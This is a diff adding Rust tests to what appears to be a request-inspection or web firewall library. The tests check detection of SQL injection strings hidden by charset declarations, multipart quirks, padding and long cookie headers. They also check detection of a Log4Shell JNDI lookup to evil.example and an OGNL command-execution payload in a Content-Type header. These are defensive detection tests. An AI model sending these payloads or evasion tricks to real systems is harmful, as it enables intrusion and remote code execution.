@@ -136,3 +136,74 @@ fn ordinary_bodies_pass() {
         assert_eq!(body(kind, text.as_bytes()), None, "{text}");
     }
 }
+
+#[test]
+fn a_charset_that_readers_pass_over_hides_nothing() {
+    let form = "q=1%27+or+1%3D1--+-";
+    let kind = "application/x-www-form-urlencoded";
+    let found = Some((Class::Sqli, "form", "q".to_owned()));
+    for (charset, before) in
+        [("utf-16", &b""[..]), ("utf-32", b""), ("utf-8", b"a\0b\0&"), ("utf-8", b"\xff\xfe&")]
+    {
+        let text = [before, form.as_bytes()].concat();
+        assert_eq!(spot(body(&format!("{kind}; charset={charset}"), &text)), found, "{text:?}");
+    }
+    let json = br#"{"q":"1' or 1=1-- -"}"#;
+    let found = Some((Class::Sqli, "json", "q".to_owned()));
+    assert_eq!(spot(body("application/json; charset=utf-16", json)), found);
+    let filled = format!(r#"{{"a":"{}","q":"{SQL}"}}"#, "\x7f".repeat(2_000));
+    assert_eq!(spot(body("text/plain", filled.as_bytes())), found);
+}
+
+#[test]
+fn what_some_readers_take_for_a_field_is_looked_at() {
+    let found = Some((Class::Sqli, "form", "id".to_owned()));
+    let part = |name: &str, value: &str| {
+        format!("--B\r\nContent-Disposition: form-data; {name}\r\n\r\n{value}\r\n")
+    };
+    for name in ["name=\"id\"; filename=\"\"", "name=\"id\"; filename*=UTF-8''notes.txt"] {
+        let form = format!("{}--B--\r\n", part(name, SQL));
+        assert_eq!(spot(body("multipart/form-data; boundary=B", form.as_bytes())), found, "{name}");
+    }
+    let noise = part("name=\"f\"; filename=\"x\"", &"\0\x01".repeat(1_000));
+    let form = format!("{noise}{}--B--\r\n", part("name=\"id\"", SQL));
+    for kind in ["multipart/form-data,", "multipart/form-data x", "multipart/mixed"] {
+        let kind = format!("{kind}; boundary=B");
+        assert_eq!(spot(body(&kind, form.as_bytes())), found, "{kind}");
+    }
+    let picture = part("name=\"f\"; filename*=UTF-8''a.png", &"\0\x01' or 1=1--".repeat(200));
+    let form = format!("{picture}{}--B--\r\n", part("name=\"none\"; filename=\"\"", ""));
+    assert_eq!(body("multipart/form-data; boundary=B", form.as_bytes()), None);
+}
+
+#[test]
+fn separators_without_cookies_use_up_nothing_and_too_many_cookies_are_too_much() {
+    let cookies = format!("{}id=1'%20or%201=1--%20-", "; ".repeat(20_000));
+    let found = look(|it| it.header("cookie", cookies.as_bytes()));
+    assert_eq!(spot(found), Some((Class::Sqli, "cookie", "id".into())));
+    let detectors = Detectors::new(Settings::default());
+    let mut inspection = Inspection::new(&detectors, Settings::THRESHOLD, Budget::default());
+    inspection.header("cookie", "a;".repeat(20_000).as_bytes());
+    assert_eq!(inspection.exhausted_by(), Some("cookies"));
+}
+
+#[test]
+fn a_declared_type_is_looked_at_when_it_is_none() {
+    for attack in
+        ["${jndi:ldap://evil.example/a}", "%{(#cmd='id').(#p=new java.lang.ProcessBuilder(#cmd))}"]
+    {
+        let found = spot(look(|it| it.header("content-type", attack.as_bytes())));
+        assert_eq!(
+            found.map(|(_, part, name)| (part, name)),
+            Some(("header", "content-type".into()))
+        );
+    }
+    for ordinary in [
+        "text/html; charset=utf-8",
+        "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW",
+        "multipart/related; type=\"application/xop+xml\"; start=\"<root@example>\"; boundary=\"a'()+_,-./:=? b\"",
+        "application/soap+xml; action=\"urn:a/b\"",
+    ] {
+        assert_eq!(look(|it| it.header("content-type", ordinary.as_bytes())), None, "{ordinary}");
+    }
+}
